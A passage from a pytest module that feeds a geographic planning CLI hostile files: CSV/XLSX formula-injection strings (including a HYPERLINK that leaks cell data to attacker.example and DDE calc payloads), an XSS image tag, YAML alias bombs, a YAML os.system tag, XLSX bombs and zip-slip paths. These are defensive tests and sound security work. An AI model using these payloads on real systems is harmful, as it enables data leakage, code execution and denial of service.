"""Hostile inputs (issue 13): files an attacker could send a planner, fed to the real command.

Every file is generated here into ``tmp_path`` (no committed binaries).  Each command runs as a
separate ``python -m geo_coverage`` process, as a planner runs it, and each refusal must be:
exit 2, a message naming the file (and row and column where they apply), no traceback, within
20 s and 1 GB of memory (peak resident set of the process), with every input file unchanged
(SHA-256 before and after).  Exports that carry text from a data file must hold no spreadsheet
formula: CSV cells starting with ``= + - @``, a tab or a carriage return are neutralised with a
leading single quote (OWASP), XLSX cells are strings, never formulas, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import hashlib
import io as _io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from pyproj import Transformer
from shapely.geometry import box

from .conftest import METRIC, X0, Y0, write_tiny_city
from .test_bad_inputs import zipped

REPO = Path(__file__).resolve().parents[1]
SECONDS = 20.0
PEAK_BYTES = 1 << 30

# Text that a spreadsheet would run: one per leading character OWASP lists.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
MARKUP = "<img src=x onerror=\"document.title='pwned'\">"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


# --- running the command ------------------------------------------------------------------------


@dataclass
class Run:
    code: int
    out: str
    err: str
    seconds: float
    peak_bytes: int | None  # None: run in this process, not measured

    @property
    def text(self) -> str:
        return self.out + self.err


def _hwm_bytes(pid: int) -> int:
    """The process's own peak resident memory (VmHWM of its address space since exec)."""
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    match = re.search(r"VmHWM:\s+(\d+) kB", text)
    return int(match.group(1)) * 1024 if match else 0


def cli(*argv, cwd: Path | None = None, timeout: float = 60.0) -> Run:
    """Run ``python -m geo_coverage ARGV`` from this checkout; measure wall time and peak RSS.

    The peak is the child's VmHWM, sampled every 20 ms until it exits (its own address space
    since exec).  ``ru_maxrss`` from ``wait4`` would not do: Linux carries the forking parent's
    high-water mark (here the pytest process, often over 1 GB) into the child across exec."""
    env = {**os.environ, "PYTHONPATH": str(REPO), "PYTHONWARNINGS": "ignore"}
    with _tempfile() as out_file, _tempfile() as err_file:
        start = time.perf_counter()
        child = subprocess.Popen([sys.executable, "-m", "geo_coverage", *map(str, argv)],
                                 stdout=out_file, stderr=err_file, stdin=subprocess.DEVNULL,
                                 cwd=cwd or REPO, env=env)
        deadline = start + timeout
        peak = 0
        while True:
            peak = max(peak, _hwm_bytes(child.pid))
            pid, status, _ = os.wait4(child.pid, os.WNOHANG)
            if pid:
                break
            if time.perf_counter() > deadline:
                child.kill()
                _, status, _ = os.wait4(child.pid, 0)
                break
            time.sleep(0.02)
        seconds = time.perf_counter() - start
        child.returncode = os.waitstatus_to_exitcode(status)
        out_file.seek(0)
        err_file.seek(0)
        return Run(child.returncode, out_file.read().decode("utf-8", "replace"),
                   err_file.read().decode("utf-8", "replace"), seconds, peak)


def inproc(capsys, *argv) -> Run:
    """The same command in this process (fast: no start-up imports); memory is not measured, so
    the classes whose danger is memory or time (bombs, huge files) use :func:`cli`."""
    from geo_coverage.cli import main

    capsys.readouterr()
    start = time.perf_counter()
    try:
        code = main([str(a) for a in argv])
    except SystemExit as exc:  # argparse refusing an option
        code = exc.code if isinstance(exc.code, int) else 2
    seconds = time.perf_counter() - start
    captured = capsys.readouterr()
    return Run(code, captured.out, captured.err, seconds, None)


def _tempfile():
    import tempfile

    return tempfile.TemporaryFile()


def digests(*roots: Path) -> dict[str, str]:
    found = {}
    for root in roots:
        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
        for path in files:
            if path.is_symlink():
                continue
            with open(path, "rb") as handle:
                found[str(path)] = hashlib.file_digest(handle, "sha256").hexdigest()
    return found


def assert_refused(
    run: Run, pattern: str, *, names=(), row: int | None = None, column: str | None = None
) -> None:
    """Exit 2, a message matching ``pattern`` that names the file (row, column), no traceback,
    within the time and memory bounds."""
    text = run.text
    assert run.code == 2, f"exit {run.code}:\n{text[-3000:]}"
    assert "Traceback" not in text, text[-3000:]
    assert run.seconds < SECONDS, f"{run.seconds:.1f} s"
    assert run.peak_bytes is None or run.peak_bytes < PEAK_BYTES, f"{run.peak_bytes / 1e6:.0f} MB"
    lines = [line for line in text.splitlines() if re.search(pattern, line, flags=re.IGNORECASE)]
    assert lines, f"no line matches {pattern!r}:\n{text[-3000:]}"
    for name in names:
        assert any(name in line for line in lines), (name, lines)
    if row is not None:
        assert any(f"row {row}" in line for line in lines), lines
    if column is not None:
        assert any(f"column '{column}'" in line for line in lines), lines


def assert_within_bounds(run: Run) -> None:
    assert "Traceback" not in run.text, run.text[-3000:]
    assert run.seconds < SECONDS, f"{run.seconds:.1f} s"
    assert run.peak_bytes < PEAK_BYTES, f"{run.peak_bytes / 1e6:.0f} MB"


# --- what an export may hold --------------------------------------------------------------------


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_formula_cells(data: bytes | str) -> list[str]:
    """Cells of a CSV a spreadsheet would treat as a formula (text starting = + - @ TAB CR)."""
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    cells = [cell for row in csv.reader(_io.StringIO(text, newline="")) for cell in row]
    return [cell for cell in cells if cell[:1] in DANGEROUS and not _is_number(cell)]


def xlsx_formula_cells(path_or_bytes) -> list[str]:
    """Formula cells of a workbook: any ``<f>`` element, or a cell typed as a formula."""
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else Path(path_or_bytes).read_bytes()
    found = []
    with zipfile.ZipFile(_io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += re.findall(r"<(?:\w+:)?f[ >][^<]*", xml)
                found += re.findall(r'<c [^>]*t="(?:e|str)"[^>]*>', xml)
    from openpyxl import load_workbook

    workbook = load_workbook(_io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found += [str(cell.value) for cell in row if cell.data_type == "f"]
    return found


def xlsx_text(path_or_bytes) -> str:
    from openpyxl import load_workbook

    data = path_or_bytes if isinstance(path_or_bytes, bytes) else Path(path_or_bytes).read_bytes()
    workbook = load_workbook(_io.BytesIO(data))
    return "\n".join(
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


# --- building the files -------------------------------------------------------------------------

TO_LONLAT = Transformer.from_crs(METRIC, "EPSG:4326", always_xy=True)


def lonlat(x_km: float, y_km: float = 0.5) -> tuple[float, float]:
    return TO_LONLAT.transform(X0 + x_km * 1000, Y0 + y_km * 1000)


def register_frame(ids=("E01", "E02", "E03"), names=("甲", "乙", "丙"), beds=("10", "20", "30")):
    coords = [lonlat(x) for x in (0.5, 1.5, 2.5)]
    return pd.DataFrame(
        {
            "编号": list(ids),
            "名称": list(names),
            "经度": [c[0] for c in coords],
            "纬度": [c[1] for c in coords],
            "床位数": list(beds),
        }
    )


def csv_of(frame: pd.DataFrame, encoding="utf-8") -> bytes:
    return frame.to_csv(index=False).encode(encoding)


def hostile_streets() -> gpd.GeoDataFrame:
    """The tiny city's streets, named with a formula, markup and a leading @ and - ."""
    squares = [box(X0 + i * 1000, Y0, X0 + (i + 1) * 1000, Y0 + 1000) for i in range(4)]
    return gpd.GeoDataFrame(
        {
            "code": ["110001001", "110001002", "110002001", "110002002"],
            "name": [FORMULAS[0], MARKUP, FORMULAS[3], FORMULAS[5]],
            "parent_code": ["110001", "110001", "110002", "110002"],
            "pop_total": [1000, 2000, 3000, 500],
        },
        geometry=squares,
        crs=METRIC,
    ).to_crs(4326)


@pytest.fixture(scope="module")
def city(tmp_path_factory) -> Path:
    return write_tiny_city(tmp_path_factory.mktemp("hostile-base") / "tiny")


@pytest.fixture(scope="module")
def hostile_city(tmp_path_factory, city) -> Path:
    """A data folder imported from an outline file and a register whose names and ids are
    formulas and markup (as a planner would import a district's files)."""
    folder = tmp_path_factory.mktemp("hostile-city")
    streets = folder / "streets.geojson"
    streets.write_bytes(hostile_streets().to_json(drop_id=True).encode())
    register = folder / "reg.csv"
    register.write_bytes(
        csv_of(
            register_frame(
                ids=[FORMULAS[0], FORMULAS[1], "@E3"], names=[MARKUP, FORMULAS[4], FORMULAS[2]]
            )
        )
    )
    out = folder / "data"
    run = cli(
        "import",
        "--boundaries",
        streets,
        "--facilities",
        register,
        "--kind",
        "elderly_care",
        "--out",
        out,
        "--base",
        city,
    )
    assert run.code == 0, run.text
    return out


# --- 1. formula injection -----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_gap_list_of_imported_names_holds_no_formula(capsys, hostile_city, tmp_path, fmt):
    out = tmp_path / f"gaps.{fmt}"
    before = digests(hostile_city)
    run = inproc(capsys, "gaps", "--data", hostile_city, "--level", "street", "--out", out)
    assert run.code == 0, run.text
    assert digests(hostile_city) == before
    if fmt == "csv":
        data = out.read_bytes()
        assert csv_formula_cells(data) == []
        assert "HYPERLINK" in data.decode("utf-8-sig")  # neutralised, still there to read
    else:
        assert xlsx_formula_cells(out) == []
        assert "HYPERLINK" in xlsx_text(out)


STREET_REPORT = ("report", "--level", "street", "--indicator", "elderly_beds_per_1000")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_of_imported_names_holds_no_formula(capsys, hostile_city, tmp_path, fmt):
    out = tmp_path / f"report.{fmt}"
    run = inproc(capsys, *STREET_REPORT, "--data", hostile_city, "--format", fmt, "--out", out)
    assert run.code == 0, run.text
    if fmt == "csv":
        assert csv_formula_cells(out.read_bytes()) == []
        assert "SUM(1+1)" in out.read_bytes().decode("utf-8-sig")
    else:
        assert xlsx_formula_cells(out) == []


def test_report_csv_on_standard_output_holds_no_formula(capsys, hostile_city):
    run = inproc(capsys, *STREET_REPORT, "--data", hostile_city, "--format", "csv")
    assert run.code == 0, run.text
    assert csv_formula_cells(run.out) == [] and "HYPERLINK" in run.out


def _scenario_yaml(
    name: str,
    *,
    add_id: str = "=cmd|' /C calc'!A0",
    growth: float | str = 0.01,
    beds: float | str = 400,
) -> str:
    lon, lat = lonlat(3.5)
    return json.dumps(
        {
            "name": name,
            "description": FORMULAS[1],
            "edits": [
                {
                    "action": "add",
                    "kind": "elderly_care",
                    "lon": lon,
                    "lat": lat,
                    "datum": "wgs84",
                    "id": add_id,
                    "name": FORMULAS[3],
                    "attributes": {"beds": beds, "nursing_beds": 10},
                },
                {
                    "action": "population",
                    "level": "street",
                    "code": "110002001",
                    "year": 2025,
                    "annual_growth": growth,
                },
            ],
        },
        ensure_ascii=False,
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_scenario_comparison_holds_no_formula(capsys, hostile_city, tmp_path, fmt):
    scenario = tmp_path / "s.yaml"
    scenario.write_text(_scenario_yaml(FORMULAS[0]), encoding="utf-8")
    out = tmp_path / f"compare.{fmt}"
    run = inproc(
        capsys,
        "scenario",
        "run",
        scenario,
        "--data",
        hostile_city,
        "--compare",
        "--format",
        fmt,
        "--out",
        out,
    )
    assert run.code == 0, run.text
    if fmt == "csv":
        assert csv_formula_cells(out.read_bytes()) == []
    else:
        assert xlsx_formula_cells(out) == []
        assert "HYPERLINK" in xlsx_text(out)  # the About sheet names the scenario, as text


def test_scenario_run_table_holds_no_formula(capsys, hostile_city, tmp_path):
    scenario = tmp_path / "s.yaml"
    scenario.write_text(_scenario_yaml(FORMULAS[0]), encoding="utf-8")
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"after.{fmt}"
        run = inproc(
            capsys,
            "scenario",
            "run",
            scenario,
            "--data",
            hostile_city,
            "--format",
            fmt,
            "--out",
            out,
            "--level",
            "street",
        )
        assert run.code == 0, run.text
        found = csv_formula_cells(out.read_bytes()) if fmt == "csv" else xlsx_formula_cells(out)
        assert found == [], fmt


def _matrix(
    tmp_path: Path, demand_ids, supply_ids, *, demand_values=None, supply_values=None, costs=None
) -> tuple[Path, Path, Path]:
    demand = pd.DataFrame({"id": demand_ids, "pop": demand_values or ["100"] * len(demand_ids)})
    supply = pd.DataFrame({"id": supply_ids, "beds": supply_values or ["10"] * len(supply_ids)})
    if costs is None:
        costs = [(d, s, "5") for d in demand_ids for s in supply_ids]
    cost_frame = pd.DataFrame(costs, columns=["origin_id", "destination_id", "cost"])
    paths = tmp_path / "demand.csv", tmp_path / "supply.csv", tmp_path / "costs.csv"
    for frame, path in zip((demand, supply, cost_frame), paths, strict=False):
        path.write_bytes(csv_of(frame))
    return paths


def access_argv(demand, supply, costs, *, max_cost=10) -> list:
    """``geo-coverage access`` on the three tables of :func:`_matrix`."""
    return ["access", "--demand", demand, "--supply", supply, "--costs", costs,
            "--max-cost", max_cost, "--demand-value", "pop", "--supply-value", "beds"]  # fmt: skip


def test_access_csv_holds_no_formula(capsys, tmp_path):
    demand, supply, costs = _matrix(tmp_path, FORMULAS[:3], FORMULAS[3:5])
    before = digests(tmp_path)
    args = access_argv(demand, supply, costs)
    run = inproc(capsys, *args)
    assert run.code == 0, run.text
    assert csv_formula_cells(run.out) == [] and "HYPERLINK" in run.out
    run = inproc(capsys, *args, "--out", tmp_path / "out.csv")
    assert run.code == 0, run.text
    assert csv_formula_cells((tmp_path / "out.csv").read_bytes()) == []
    assert {k: v for k, v in digests(tmp_path).items() if not k.endswith("out.csv")} == before


def test_costs_csv_holds_no_formula(capsys, tmp_path):
    from .test_catchment import _grid_csv

    nodes, edges = _grid_csv(tmp_path)
    points = []
    for index, formula in enumerate(FORMULAS[:5]):  # pandas writes a bare CR unquoted
        lon, lat = TO_LONLAT.transform(X0 + 50 * (index % 4), Y0 + 40 * (index // 4))
        points.append({"id": formula, "lon": lon, "lat": lat})
    origins, destinations = tmp_path / "o.csv", tmp_path / "d.csv"
    origins.write_bytes(csv_of(pd.DataFrame(points)))
    destinations.write_bytes(csv_of(pd.DataFrame(points[::-1])))
    run = inproc(
        capsys,
        "costs",
        "--network",
        nodes,
        "--edges",
        edges,
        "--origins",
        origins,
        "--destinations",
        destinations,
        "--max-cost",
        5000,
        "--metric",
        "length",
    )
    assert run.code == 0, run.text
    assert csv_formula_cells(run.out) == [] and "HYPERLINK" in run.out


def test_optimize_csv_holds_no_formula(capsys, tmp_path):
    demand, supply, costs = _matrix(tmp_path, ["d1", "d2"], FORMULAS[:2])
    run = inproc(
        capsys,
        "optimize",
        "--model",
        "lscp",
        "--demand",
        demand,
        "--candidates",
        supply,
        "--costs",
        costs,
        "--max-cost",
        10,
        "--format",
        "csv",
    )
    assert run.code == 0, run.text
    assert csv_formula_cells(run.out) == [], run.out


def test_one_writer_neutralises_text_and_keeps_numbers():
    """The library's tabular writer: text neutralised, numbers (also negative) stay numbers."""
    from geo_coverage import io

    frame = pd.DataFrame(
        {
            "name": [*FORMULAS, "plain", "-"],
            "value": [-1.5, 2, 3, -4, 5, 6, 7, 8],
            "count": np.arange(8),
        }
    )
    text = io.dataframe_to_csv_bytes(frame).decode("utf-8-sig")
    assert csv_formula_cells(text) == []
    read = pd.read_csv(_io.StringIO(text))
    assert read["value"].tolist() == [-1.5, 2, 3, -4, 5, 6, 7, 8]  # still numbers
    assert read["name"][0] == "'" + FORMULAS[0] and read["name"][6] == "plain"
    workbook = io.dataframe_to_xlsx_bytes({"t": frame}, notes={"scenario": FORMULAS[0]})
    assert xlsx_formula_cells(workbook) == []
    from openpyxl import load_workbook

    sheet = load_workbook(_io.BytesIO(workbook))["t"]
    assert [sheet.cell(row=r, column=2).value for r in range(2, 10)] == [-1.5, 2, 3, -4, 5, 6, 7, 8]
    assert all(sheet.cell(row=r, column=2).data_type == "n" for r in range(2, 10))
    assert sheet.cell(row=2, column=1).data_type == "s"
    assert "HYPERLINK" in sheet.cell(row=2, column=1).value


# --- 2. YAML --------------------------------------------------------------------------------------


def alias_bomb(levels: int = 9, width: int = 10) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels):
        refs = ",".join([f"*a{level - 1}"] * width)
        lines.append(f"a{level}: &a{level} [{refs}]")
    return "\n".join(lines) + "\n"


def test_scenario_alias_bomb_is_refused(city, tmp_path):
    scenario = tmp_path / "bomb.yaml"
    scenario.write_text("name: bomb\n" + alias_bomb() + "edits: *a8\n", encoding="utf-8")
    before = digests(tmp_path)
    run = cli("scenario", "run", scenario, "--data", city)
    assert_refused(run, r"alias", names=["bomb.yaml"])
    assert digests(tmp_path) == before


def test_plan_alias_bomb_is_refused(city, tmp_path):
    plan = tmp_path / "plan.yaml"
    plan.write_text(alias_bomb() + "id: x\nindicators: *a8\n", encoding="utf-8")
    assert_refused(cli("report", "--data", city, "--plan", plan), r"alias", names=["plan.yaml"])


def test_data_folder_yaml_alias_bomb_is_refused(city, tmp_path):
    import shutil

    folder = tmp_path / "data"
    shutil.copytree(city, folder)
    (folder / "dataset.yaml").write_text(alias_bomb() + "name: *a8\n", encoding="utf-8")
    assert_refused(
        cli("report", "--data", folder, "--level", "district"), r"alias", names=["dataset.yaml"]
    )


def test_oversized_yaml_is_refused_before_parsing(city, tmp_path):
    scenario = tmp_path / "huge.yaml"
    with open(scenario, "w", encoding="utf-8") as handle:
        handle.write("name: big\nedits: []\n")
        handle.write(("# " + "x" * 1022 + "\n") * (17 * 1024))  # 17 MB of comments
    assert_refused(cli("scenario", "run", scenario, "--data", city), r"MB", names=["huge.yaml"])


def test_yaml_python_tag_in_scenario_is_refused(city, tmp_path):
    scenario = tmp_path / "tag.yaml"
    scenario.write_text("name: !!python/object/apply:os.system ['touch pwned']\nedits: []\n")
    assert_refused(
        cli("scenario", "run", scenario, "--data", city, cwd=tmp_path),
        r"Python tags",
        names=["tag.yaml"],
    )
    assert not (tmp_path / "pwned").exists()


# --- 3. XLSX bombs --------------------------------------------------------------------------------


def xlsx_bomb(rows: int, *, declared: str | None = None) -> bytes:
    """A valid register workbook whose sheet holds ``rows`` data rows (compressing ~100:1)."""
    buffer = _io.BytesIO()
    register_frame().to_excel(buffer, index=False)
    header = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>经度</t></is></c><c r="C1" t="inlineStr">'
        "<is><t>纬度</t></is></c></row>"
    )
    body = "".join(
        f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>116.4</v></c>'
        f'<c r="C{r}"><v>39.9</v></c></row>'
        for r in range(2, rows + 2)
    )
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{declared or f"A1:C{rows + 1}"}"/><sheetData>{header}{body}'
        "</sheetData></worksheet>"
    )
    source = zipfile.ZipFile(_io.BytesIO(buffer.getvalue()))
    out = _io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = (
                sheet.encode() if info.filename == "xl/worksheets/sheet1.xml" else source.read(info)
            )
            target.writestr(
                info.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9
            )
    return out.getvalue()


@pytest.fixture(scope="module")
def million_row_xlsx(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("xlsx-bomb") / "reg.xlsx"
    path.write_bytes(xlsx_bomb(1_000_000))
    return path


def test_xlsx_with_a_million_rows_is_refused_quickly(city, million_row_xlsx):
    assert million_row_xlsx.stat().st_size < 20e6  # about 100 MB of sheet XML inside
    before = digests(million_row_xlsx)
    run = cli(
        "validate", million_row_xlsx, "--as", "facilities", "--kind", "elderly_care", "--base", city
    )
    assert_refused(run, r"rows", names=["reg.xlsx"])
    assert "--max-rows" in run.text  # the fix names the flag that raises the limit
    assert digests(million_row_xlsx) == before


def test_xlsx_million_rows_population_is_refused(city, million_row_xlsx, tmp_path):
    pop = tmp_path / "pop.xlsx"
    pop.write_bytes(million_row_xlsx.read_bytes())
    run = cli("import", "--population", pop, "--out", tmp_path / "out", "--base", city)
    assert_refused(run, r"rows", names=["pop.xlsx"])
    assert not (tmp_path / "out").exists()


def test_xlsx_declaring_huge_dimensions_is_refused(city, tmp_path):
    path = tmp_path / "reg.xlsx"
    path.write_bytes(xlsx_bomb(3, declared="A1:XFD1048576"))
    run = cli("validate", path, "--as", "facilities", "--kind", "elderly_care", "--base", city)
    assert_refused(run, r"rows|columns|dimension", names=["reg.xlsx"])


def test_xlsx_lying_about_its_dimensions_is_still_bounded(city, tmp_path):
    path = tmp_path / "reg.xlsx"
    path.write_bytes(xlsx_bomb(400_000, declared="A1:C4"))
    run = cli("validate", path, "--as", "facilities", "--kind", "elderly_care", "--base", city)
    assert_refused(run, r"rows", names=["reg.xlsx"])


def test_row_limit_can_be_raised(city, tmp_path):
    path = tmp_path / "reg.xlsx"
    path.write_bytes(xlsx_bomb(30))
    low = cli(
        "validate",
        path,
        "--as",
        "facilities",
        "--kind",
        "elderly_care",
        "--base",
        city,
        "--max-rows",
        10,
    )
    assert_refused(low, r"rows", names=["reg.xlsx"])
    high = cli(
        "validate",
        path,
        "--as",
        "facilities",
        "--kind",
        "elderly_care",
        "--base",
        city,
        "--max-rows",
        100,
    )
    assert "more than" not in high.text and "Traceback" not in high.text


# --- 4. non-finite and absurd numbers -----------------------------------------------------------


@pytest.mark.parametrize(
    "value,pattern",
    [
        ("1e308", r"(at most|more than|implausible|range)"),
        ("nan", r"'nan' is not a number"),
        ("-inf", r"'-inf' is not a number"),
        ("1e400", r"'1e400' is not a number|range|at most"),
    ],
)
def test_absurd_capacity_is_an_error_naming_row_and_column(capsys, city, tmp_path, value, pattern):
    path = tmp_path / "reg.csv"
    path.write_bytes(csv_of(register_frame(beds=("10", value, "30"))))
    run = inproc(
        capsys, "validate", path, "--as", "facilities", "--kind", "elderly_care", "--base", city
    )
    assert_refused(run, pattern, names=["reg.csv"], row=3, column="床位数")


def test_nan_population_is_not_called_blank(capsys, city, tmp_path):
    path = tmp_path / "pop.csv"
    path.write_bytes(
        csv_of(
            pd.DataFrame(
                {
                    "区划代码": ["110001001", "110001002", "110002001", "110002002"],
                    "常住人口": ["1000", "NaN", "3000", "0"],
                }
            )
        )
    )
    run = inproc(capsys, "validate", path, "--as", "population", "--base", city)
    assert_refused(run, r"'NaN' is not a number", names=["pop.csv"], row=3, column="常住人口")


@pytest.mark.parametrize("growth", ["1.0e+308", "5.0", ".nan", ".inf", "-2"])
def test_absurd_growth_is_refused(capsys, city, tmp_path, growth):
    """Growth to 2100 of 1e308 a year overflowed into a traceback; 500 % a year for 80 years is
    a factor of 10^62.  (YAML reads '1e308' without a dot as text, hence 1.0e+308.)"""
    scenario = tmp_path / "s.yaml"
    scenario.write_text(
        "name: g\nedits:\n- action: population\n  level: street\n  code: '110002001'\n"
        f"  year: 2100\n  annual_growth: {growth}\n",
        encoding="utf-8",
    )
    run = inproc(capsys, "scenario", "run", scenario, "--data", city)
    assert_refused(run, r"growth", names=["s.yaml"])


@pytest.mark.parametrize("beds", ["1.0e+308", "2.0e+5", "-1"])
def test_absurd_scenario_capacity_is_refused(capsys, city, tmp_path, beds):
    lon, lat = lonlat(3.5)
    scenario = tmp_path / "s.yaml"
    scenario.write_text(
        "name: beds\nedits:\n- action: add\n  kind: elderly_care\n"
        f"  lon: {lon}\n  lat: {lat}\n  attributes: {{beds: {beds}}}\n",
        encoding="utf-8",
    )
    run = inproc(capsys, "scenario", "run", scenario, "--data", city)
    assert_refused(run, r"beds", names=["s.yaml"])


@pytest.mark.parametrize(
    "where,value",
    [
        ("supply", "1e308"),
        ("supply", "nan"),
        ("demand", "inf"),
        ("costs", "nan"),
        ("costs", "-1"),
        ("costs", "1e308"),
    ],
)
def test_absurd_numbers_in_access_tables(capsys, tmp_path, where, value):
    demand_values = ["100", "200"]
    supply_values = ["10", "20"]
    costs = [("d1", "s1", "5"), ("d2", "s2", "5")]
    if where == "supply":
        supply_values[1] = value
    elif where == "demand":
        demand_values[1] = value
    else:
        costs[1] = ("d2", "s2", value)
    demand, supply, cost_file = _matrix(
        tmp_path,
        ["d1", "d2"],
        ["s1", "s2"],
        demand_values=demand_values,
        supply_values=supply_values,
        costs=costs,
    )
    before = digests(tmp_path)
    run = inproc(capsys, *access_argv(demand, supply, cost_file))
    column = {"supply": "beds", "demand": "pop", "costs": "cost"}[where]
    assert_refused(run, re.escape(f"{where}.csv"), names=[f"{where}.csv"], row=3, column=column)
    assert digests(tmp_path) == before


@pytest.mark.parametrize(
    "argv", [("--max-cost", "nan"), ("--max-cost", "inf"), ("--max-cost", "1e308")]
)
def test_absurd_numeric_options_are_refused(capsys, tmp_path, argv):
    demand, supply, costs = _matrix(tmp_path, ["d1"], ["s1"])
    run = inproc(capsys, *access_argv(demand, supply, costs, max_cost=argv[1]))
    assert_refused(run, r"--max-cost")


def test_nan_demand_weight_in_optimize(capsys, tmp_path):
    demand, supply, costs = _matrix(tmp_path, ["d1", "d2"], ["s1"], demand_values=["1", "nan"])
    run = inproc(
        capsys,
        "optimize",
        "--model",
        "mclp",
        "--facilities",
        1,
        "--demand",
        demand,
        "--demand-weight",
        "pop",
        "--candidates",
        supply,
        "--costs",
        costs,
        "--max-cost",
        10,
    )
    assert_refused(run, r"nan", names=["demand.csv"], row=3, column="pop")


# --- 5. outputs that clobber inputs --------------------------------------------------------------


def _access_args(tmp_path):
    demand, supply, costs = _matrix(tmp_path, ["d1", "d2"], ["s1"])
    return demand, supply, access_argv(demand, supply, costs)


def test_out_equal_to_an_input_is_refused(capsys, tmp_path):
    demand, _, args = _access_args(tmp_path)
    before = digests(tmp_path)
    run = inproc(capsys, *args, "--out", demand)
    assert_refused(run, r"input", names=["demand.csv"])
    assert digests(tmp_path) == before


def test_out_linking_to_an_input_is_refused(capsys, tmp_path):
    _, supply, args = _access_args(tmp_path)
    link = tmp_path / "result.csv"
    link.symlink_to(supply)
    before = digests(tmp_path)
    run = inproc(capsys, *args, "--out", link)
    assert_refused(run, r"input", names=["result.csv"])
    assert digests(tmp_path) == before


def test_gaps_out_onto_the_data_folder_is_refused(capsys, city, tmp_path):
    target = city / "boundaries" / "streets.geojson"
    before = digests(city)
    run = inproc(
        capsys, "gaps", "--data", city, "--level", "street", "--format", "geojson", "--out", target
    )
    assert_refused(run, r"input", names=["streets.geojson"])
    assert digests(city) == before


def import_argv(register, *, out, base) -> list:
    return ["import", "--facilities", register, "--kind", "elderly_care", "--out", out,
            "--base", base]  # fmt: skip


def test_import_out_onto_its_base_is_refused(capsys, city, tmp_path):
    register = tmp_path / "reg.csv"
    register.write_bytes(csv_of(register_frame()))
    before = digests(city)
    run = inproc(capsys, *import_argv(register, out=city, base=city))
    assert_refused(run, r"input|base", names=[city.name])
    assert digests(city) == before


def test_import_out_onto_a_folder_holding_the_input_is_refused(capsys, city, tmp_path):
    folder = tmp_path / "work"
    folder.mkdir()
    register = folder / "reg.csv"
    register.write_bytes(csv_of(register_frame()))
    before = digests(folder)
    run = inproc(capsys, *import_argv(register, out=folder, base=city))
    assert_refused(run, r"input", names=["reg.csv"])
    assert digests(folder) == before


@pytest.mark.parametrize("where", ["missing-folder", "proc", "existing-folder"])
def test_unwritable_out_is_a_clear_error(capsys, tmp_path, where):
    _, _, args = _access_args(tmp_path)
    target = {
        "missing-folder": tmp_path / "nowhere" / "x.csv",
        "proc": Path("/proc/x.csv"),
        "existing-folder": tmp_path,
    }[where]
    before = digests(tmp_path)
    run = inproc(capsys, *args, "--out", target)
    assert_refused(
        run,
        r"folder|cannot write|not allowed|permission|read-only",
        names=[target.name or str(target)],
    )
    assert digests(tmp_path) == before
    assert not [p for p in tmp_path.rglob(".*") if p.is_file()]  # nothing half-written


@pytest.mark.parametrize("verb", ["report", "gaps"])
def test_unwritable_out_for_reports(capsys, city, verb):
    args = ["--out", "/proc/report.xlsx"] + (["--format", "xlsx"] if verb == "report" else [])
    run = inproc(capsys, verb, "--data", city, "--level", "district", *args)
    assert_refused(run, r"cannot write|not allowed|permission|read-only", names=["report.xlsx"])


# --- 6. ambiguous archives ------------------------------------------------------------------------


_zip = zipped  # the bad-input catalogue's zip builder


def _streets_geojson(names=("甲一街道", "甲二街道", "乙一街道", "乙二街道"), pop=1000) -> bytes:
    frame = hostile_streets()
    frame["name"] = list(names)
    frame["pop_total"] = pop
    return frame.to_json(drop_id=True).encode()


def test_zip_with_two_same_named_layers_lists_both(capsys, city, tmp_path):
    path = tmp_path / "streets.zip"
    path.write_bytes(
        _zip(
            {
                "2019/streets.geojson": _streets_geojson(pop=1),
                "2023/streets.geojson": _streets_geojson(pop=2),
            }
        )
    )
    run = inproc(capsys, "validate", path, "--as", "boundaries", "--base", city)
    assert_refused(run, r"2019/streets\.geojson.*2023/streets\.geojson", names=["streets.zip"])


@pytest.mark.parametrize(
    "member",
    [
        "..\\..\\evil.geojson",
        "C:/evil.geojson",
        "c:\\evil.geojson",
        "a/../../evil.geojson",
        "/etc/evil.geojson",
    ],
)
def test_zip_slip_members_are_refused(capsys, city, tmp_path, member):
    path = tmp_path / "streets.zip"
    path.write_bytes(_zip({member: _streets_geojson()}))
    run = inproc(capsys, "validate", path, "--as", "boundaries", "--base", city)
    assert_refused(run, r"outside the folder", names=["streets.zip"])
    assert not (tmp_path.parent / "evil.geojson").exists()


def _zip_of_zeros(size: int, *, declare: int | None = None) -> bytes:
    """A zip whose one member inflates to ``size`` bytes of spaces; ``declare`` rewrites the sizes
    its headers state (a lying zip bomb)."""
    import zlib

